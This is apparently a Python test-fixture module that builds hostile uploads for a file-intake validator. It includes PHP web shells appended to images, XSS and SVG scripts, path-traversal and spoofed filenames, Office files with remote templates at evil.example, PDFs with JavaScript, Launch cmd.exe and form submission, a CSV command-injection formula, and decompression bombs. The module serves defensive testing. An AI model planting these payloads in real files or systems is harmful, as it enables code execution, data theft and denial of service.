"""Files as an attacker, or a careless colleague, hands them in, each with the code of its refusal: the material of P10's intake.

`HARMLESS` stands for a file that is taken with what was bad about it gone; `GOOD` for one that must be taken, so that a door
that is shut for everybody proves nothing.
"""

from __future__ import annotations

import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Mapping
from dataclasses import dataclass
from functools import cache
from typing import Any

from PIL import Image, PngImagePlugin

from jinlan.site.trust.ways_out import bodies

HARMLESS, GOOD = "HARMLESS", "GOOD"
PLACE = b"GPS-31.2304N-121.4737E"  # must not lie in what is kept
SCRIPT = b"<script>alert(1)</script>"
_OOXML = "application/vnd.openxmlformats-officedocument"
_RELATION = f"{_OOXML.replace('application/vnd.openxmlformats-officedocument', 'http://schemas.openxmlformats.org/officeDocument/2006')}/relationships"
_MAIN = {
    "docx": ("word/document.xml", f"{_OOXML}.wordprocessingml.document.main+xml"),
    "xlsx": ("xl/workbook.xml", f"{_OOXML}.spreadsheetml.sheet.main+xml"),
    "pptx": ("ppt/presentation.xml", f"{_OOXML}.presentationml.presentation.main+xml"),
}


@dataclass(frozen=True, slots=True)
class Handed:
    """A file: what it is called, its bytes, and what must come of it."""

    name: str
    content: bytes
    code: str


def picture(form: str = "JPEG", size: tuple[int, int] = (40, 30), *, place: bool = False) -> bytes:
    """Return a picture; with `place`, one that says where it was taken, three times over."""
    made, drawn = io.BytesIO(), Image.new("RGB", size, (180, 40, 40))
    said: dict[str, Any] = {}
    if place:
        marks = Image.Exif()
        marks[0x010E] = PLACE.decode()
        marks.get_ifd(0x8825)[29] = PLACE.decode()
        text = PngImagePlugin.PngInfo()
        text.add_text("where", PLACE.decode())
        forms: dict[str, dict[str, Any]] = {"JPEG": {"comment": PLACE}, "PNG": {"pnginfo": text}}
        said = {"exif": marks, **forms.get(form, {})}
    drawn.save(made, form, **said)
    return made.getvalue()


def huge(side: int = 60_000) -> bytes:
    """Return a PNG of a few kilobytes that says it is `side` pixels wide and high."""

    def part(name: bytes, data: bytes) -> bytes:
        return struct.pack("!L", len(data)) + name + data + struct.pack("!L", zlib.crc32(name + data))

    head = struct.pack("!LLBBBBB", side, side, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + part(b"IHDR", head)
        + part(b"IDAT", zlib.compress(bytes(1000)))
        + part(b"IEND", b"")
    )


def office(
    form: str, more: Mapping[str, bytes] | None = None, *, types: str = "", relations: str = ""
) -> bytes:
    """Return a document of a form with further parts, content types and relations."""
    part, kind = _MAIN[form]
    listed = f'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/{part}" ContentType="{kind}"/>{types}</Types>'
    rels = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r0" Type="{_RELATION}/officeDocument" Target="{part}"/>{relations}</Relationships>'
    return packed(
        {"[Content_Types].xml": listed.encode(), "_rels/.rels": rels.encode(), part: b"<x>text</x>"}
        | dict(more or {})
    )


def packed(parts: Mapping[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """Return an archive."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", method) as book:
        for name, content in parts.items():
            book.writestr(name, content)
    return made.getvalue()


def pdf(*objects: bytes, catalog: bytes = b"", trailer: bytes = b"") -> bytes:
    """Return a PDF of one empty page, with further objects from number 4 on."""
    bodies_ = [
        b"<</Type/Catalog/Pages 2 0 R" + catalog + b">>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>", b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
        *objects,
    ]  # fmt: skip
    made, places = b"%PDF-1.7\n", []
    for number, body in enumerate(bodies_, start=1):
        places.append(len(made))
        made += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1) + b"".join(
        b"%010d 00000 n \n" % one for one in places
    )
    return (
        made
        + table
        + b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n"
        % (len(places) + 1, trailer, len(made))
    )


def pdf_of_packed(inner: bytes, *, count: int = 1) -> bytes:
    """Return a PDF whose catalog, or what `inner` is, lies in a packed stream of objects, found by a packed table."""
    made = b"%PDF-1.7\n"
    places: dict[int, int] = {}
    for number, body in (
        (2, b"<</Type/Pages/Kids[3 0 R]/Count 1>>"),
        (3, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"),
    ):
        places[number] = len(made)
        made += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    for stream in range(count):
        number = 10 + stream
        head = b"%d 0 " % (1 if not stream else 100 + stream)
        data = zlib.compress(head + inner)
        places[number] = len(made)
        made += (
            b"%d 0 obj\n<</Type/ObjStm/N 1/First %d/Filter/FlateDecode/Length %d>>stream\n%s\nendstream\nendobj\n"
            % (number, len(head), len(data), data)
        )
    return _with_table(made, places, count)


def _with_table(made: bytes, places: Mapping[int, int], count: int) -> bytes:
    own, size = 200, 201
    rows = {0: (0, 0, 65535), own: (1, len(made), 0)} | {
        number: (1, place, 0) for number, place in places.items()
    }
    rows |= {1 if not stream else 100 + stream: (2, 10 + stream, 0) for stream in range(count)}
    table = zlib.compress(
        b"".join(struct.pack("!BLH", *rows.get(number, (0, 0, 0))) for number in range(size))
    )
    return made + b"%d 0 obj\n<</Type/XRef/Size %d/W[1 4 2]/Root 1 0 R/Filter/FlateDecode/Length %d>>stream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % (
        own, size, len(table), table, len(made),
    )  # fmt: skip


def _outer(kind: str, target: str, mode: str = "External") -> str:
    return f'<Relationship Id="r9" Type="{_RELATION}/{kind}" Target="{target}" TargetMode="{mode}"/>'


def good() -> list[Handed]:
    """Return what must be taken as it is."""
    link = _outer("hyperlink", "https://www.bank.example/")
    table = office("xlsx")
    return [
        Handed("现场照片.jpg", picture(), GOOD), Handed("屏幕.png", picture("PNG"), GOOD), Handed("图.webp", picture("WEBP"), GOOD),
        Handed("2026.11.10 会谈纪要.pdf", pdf(), GOOD), Handed("packed.pdf", pdf_of_packed(b"<</Type/Catalog/Pages 2 0 R>>"), GOOD),
        Handed("方案.docx", office("docx", relations=link), GOOD), Handed("测算.xlsx", table, GOOD),
        Handed("介绍.pptx", office("pptx", {"ppt/embeddings/sheet1.xlsx": table, "ppt/media/image1.png": picture("PNG")}), GOOD),
    ]  # fmt: skip


def _pictures() -> list[Handed]:
    jpeg, gif = picture(), picture("GIF")
    return [
        *(Handed(f"where.{ending}", picture(form, place=True), HARMLESS) for ending, form in (("jpg", "JPEG"), ("png", "PNG"), ("webp", "WEBP"))),
        Handed("tail.jpg", jpeg + SCRIPT + PLACE, HARMLESS), Handed("archive.jpg", jpeg + packed({"x.html": SCRIPT + PLACE}, zipfile.ZIP_STORED), HARMLESS),
        Handed("shell.php.jpg", jpeg + b"<?php system($_GET[0]); ?>" + PLACE, HARMLESS), Handed("../../etc/cron.d/x.png", picture("PNG", place=True), HARMLESS),
        Handed("a\x00.exe.png", picture("PNG", place=True), HARMLESS), Handed("\u202egnp.jpg", jpeg, HARMLESS), Handed("CON.jpg", jpeg, HARMLESS),
        Handed("x" * 300 + ".jpg", jpeg, HARMLESS), Handed("a;b\"<i>.jpg", jpeg, HARMLESS),
        Handed("\u202egpj.exe", jpeg, "FILE_KIND"), Handed("half.jpg", jpeg[: len(jpeg) // 2], "FILE_BROKEN"), Handed("half.png", picture("PNG", (400, 300))[:90], "FILE_BROKEN"),
        Handed("huge.png", huge(), "FILE_PIXELS"), Handed("wide.png", huge(9_000), "FILE_PIXELS"), Handed("really.jpg", picture("PNG"), "FILE_OTHER"),
        Handed("really.png", jpeg, "FILE_OTHER"), Handed("moving.gif", gif, "FILE_KIND"), Handed("moving.png", gif, "FILE_OTHER"),
        Handed("script.jpg", b"GIF89a/*" + SCRIPT + b"*/=1;", "FILE_OTHER"), Handed("head.png", b"\x89PNG\r\n\x1a\n<?php system($_GET[0]); ?>", "FILE_BROKEN"),
        Handed("a.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "FILE_KIND"), Handed("svg.png", b'<svg xmlns="http://www.w3.org/2000/svg"/>', "FILE_OTHER"),
    ]  # fmt: skip


def _documents() -> list[Handed]:
    macro = '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    template = _outer("attachedTemplate", "http://evil.example/x.dotm")
    entities = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">]><x>&a;</x>'
    inner = office(
        "docx", {"word/embeddings/x.docx": office("docx", {"word/embeddings/y.docx": office("docx")})}
    )
    twice = office("docx").replace(b"word/document.xml", b"WORD/DOCUMENT.XML", 0)
    return [
        Handed("macro.docx", office("docx", {"word/vbaProject.bin": b"x"}), "FILE_MACRO"), Handed("macro2.docx", office("docx", types=macro), "FILE_MACRO"),
        Handed("macro.docm", office("docx", {"word/vbaProject.bin": b"x"}), "FILE_KIND"), Handed("control.xlsx", office("xlsx", {"xl/activeX/activeX1.xml": b"<x/>"}), "FILE_MACRO"),
        Handed("object.pptx", office("pptx", {"ppt/embeddings/oleObject1.bin": b"x"}), "FILE_MACRO"), Handed("program.docx", office("docx", {"word/media/x.exe": b"MZ"}), "FILE_PART"),
        Handed("html.docx", office("docx", {"word/afchunk.html": SCRIPT}), "FILE_PART"), Handed("template.docx", office("docx", relations=template), "FILE_OUTSIDE"),
        Handed("share.docx", office("docx", relations=_outer("hyperlink", "file://evil/share")), "FILE_OUTSIDE"),
        Handed("script.docx", office("docx", relations=_outer("hyperlink", "javascript:alert(1)")), "FILE_OUTSIDE"),
        Handed("image.docx", office("docx", relations=_outer("image", "http://evil.example/x.png")), "FILE_OUTSIDE"),
        Handed("links.xlsx", office("xlsx", {"xl/externalLinks/externalLink1.xml": b"<x/>"}), "FILE_OUTSIDE"),
        Handed("query.xlsx", office("xlsx", {"xl/connections.xml": b"<x/>"}), "FILE_OUTSIDE"),
        Handed("entity.docx", office("docx", {"word/x.xml": entities}), "FILE_PART"), Handed("entity16.docx", office("docx", {"word/x.xml": entities.decode().encode("utf-16")}), "FILE_PART"),
        Handed("typed.docx", office("docx", {"word/_rels/document.xml.rels": entities}), "FILE_PART"),
        Handed("bomb.docx", office("docx", {"word/x.xml": bytes(101_000_000)}), "FILE_BOMB"), Handed("many.docx", office("docx", {f"word/{n}.xml": b"" for n in range(5_001)}), "FILE_BOMB"),
        Handed("matryoshka.docx", inner, "FILE_BOMB"), Handed("path.docx", office("docx", {"../../x.xml": b"<x/>"}), "FILE_PACKED"),
        Handed("root.docx", office("docx", {"/etc/x.xml": b"<x/>"}), "FILE_PACKED"), Handed("before.docx", b"#!/bin/sh\nid\n" + office("docx"), "FILE_OTHER"),
        Handed("behind.docx", twice + SCRIPT, "FILE_PACKED"), Handed("really.docx", office("xlsx"), "FILE_OTHER"), Handed("really.xlsx", packed({"a.txt": b"x"}), "FILE_OTHER"),
        Handed("locked.docx", _locked(office("docx")), "FILE_LOCKED"), Handed("old.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "FILE_OTHER"),
        Handed("half.docx", office("docx")[:-40], "FILE_BROKEN"), Handed("lies.docx", _lying(), "FILE_BROKEN"),
    ]  # fmt: skip


def _lying() -> bytes:
    """Return a document whose largest part says that it is short."""
    made = office("docx", {"word/x.xml": b"y" * 3_000_000})
    return made.replace(struct.pack("<L", 3_000_000), struct.pack("<L", 30))


def _locked(made: bytes) -> bytes:
    """Return an archive whose directory says that its parts need a password."""
    return b"PK\x01\x02".join(
        [
            made.split(b"PK\x01\x02")[0],
            *(one[:4] + b"\x01\x00" + one[6:] for one in made.split(b"PK\x01\x02")[1:]),
        ]
    )


def _pages() -> list[Handed]:
    script = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
    catalog = b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(x)>>>>"
    bomb = b"<</Type/Catalog/Pages 2 0 R>>" + b" " * 30_000_000
    return [
        Handed("script.pdf", pdf(script, catalog=b"/OpenAction 4 0 R"), "FILE_ACTIVE"), Handed("spelled.pdf", pdf(b"<</S/J#61vaScript/J#53(x)>>"), "FILE_ACTIVE"),
        Handed("short.pdf", pdf(b"<</JS(x)>>"), "FILE_ACTIVE"), Handed("launch.pdf", pdf(b"<</S/Launch/F(cmd.exe)>>"), "FILE_ACTIVE"),
        Handed("carrying.pdf", pdf(b"<</Type/Filespec/EF<</F 5 0 R>>>>", b"<<>>"), "FILE_ACTIVE"), Handed("form.pdf", pdf(b"<</XFA[1]>>"), "FILE_ACTIVE"),
        Handed("sends.pdf", pdf(b"<</S/SubmitForm/F(http://evil.example)>>"), "FILE_ACTIVE"), Handed("packed.pdf", pdf_of_packed(catalog), "FILE_ACTIVE"),
        Handed("unnamed.pdf", pdf().replace(b"trailer", b"9 0 obj\n" + script + b"\nendobj\ntrailer"), "FILE_ACTIVE"),
        Handed("bomb.pdf", pdf_of_packed(bomb, count=4), "FILE_BOMB"), Handed("locked.pdf", pdf(trailer=b"/Encrypt<</Filter/Standard/V 1/R 2/O(x)/U(x)/P 0>>"), "FILE_LOCKED"),
        Handed("archive.pdf", pdf() + packed({"a.js": SCRIPT}), "FILE_PACKED"), Handed("late.pdf", SCRIPT + pdf(), "FILE_OTHER"), Handed("half.pdf", pdf()[:-30], "FILE_PACKED"),
        Handed("empty.pdf", b"%PDF-1.7\n%%EOF\n", "FILE_BROKEN"), Handed("tables.pdf", pdf().replace(b"trailer", b"startxref\n0\n" * 70 + b"trailer"), "FILE_BOMB"),
    ]  # fmt: skip


@cache
def hostile() -> tuple[Handed, ...]:
    """Return every hostile file with what must come of it."""
    eicar = next(one for one in bodies() if len(one) == 68)
    rest = [
        Handed("", b"x", "FILE_NAME"), Handed("..", b"x", "FILE_NAME"), Handed(".htaccess", b"x", "FILE_NAME"), Handed("noending", b"x", "FILE_NAME"),
        Handed("a.html", SCRIPT, "FILE_KIND"), Handed("html.pdf", SCRIPT, "FILE_OTHER"), Handed("bomb.zip", packed({"zeros": bytes(10_000_000)}), "FILE_KIND"),
        Handed("bomb.gz", gzip.compress(bytes(10_000_000)), "FILE_KIND"), Handed("bomb.docx", gzip.compress(bytes(10_000_000)), "FILE_OTHER"), Handed("a.txt:x.exe", b"MZ", "FILE_KIND"),
        Handed("eicar.com", eicar, "FILE_KIND"), Handed("eicar.pdf", eicar, "FILE_OTHER"), Handed("eicar.pdf.jpg", eicar, "FILE_OTHER"),
        Handed("nothing.pdf", b"", "FILE_EMPTY"), Handed("large.pdf", b"%PDF-" + bytes(10_000_001), "FILE_LARGE"), Handed("a.csv", b"=cmd|'/C calc'!A0", "FILE_KIND"),
        Handed("elf.jpg", b"\x7fELF" + bytes(60), "FILE_OTHER"), Handed("x.pdf.exe", pdf(), "FILE_KIND"),
    ]  # fmt: skip
    return (*_pictures(), *_documents(), *_pages(), *rest)
